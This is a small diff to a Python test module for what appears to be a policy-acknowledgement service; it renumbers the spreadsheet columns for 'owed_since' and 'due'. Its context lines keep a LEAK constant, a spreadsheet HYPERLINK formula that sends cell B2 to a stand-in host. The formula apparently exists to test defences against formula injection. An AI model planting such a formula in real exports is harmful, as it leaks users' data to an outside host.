@@ -15,7 +15,7 @@ from acknowledgements.services import sync_obligations
 from tests.factories import PersonFactory, published_policy, sign_off_rule
 
 LEAK = '=HYPERLINK("http://x.example/?leak="&B2,"Click me")'
-OWED_SINCE, DUE = 6, 7  # columns G and H: owed_since, due
+OWED_SINCE, DUE = 7, 8  # columns H and I: owed_since, due (after version and period)
 
 
 @pytest.fixture
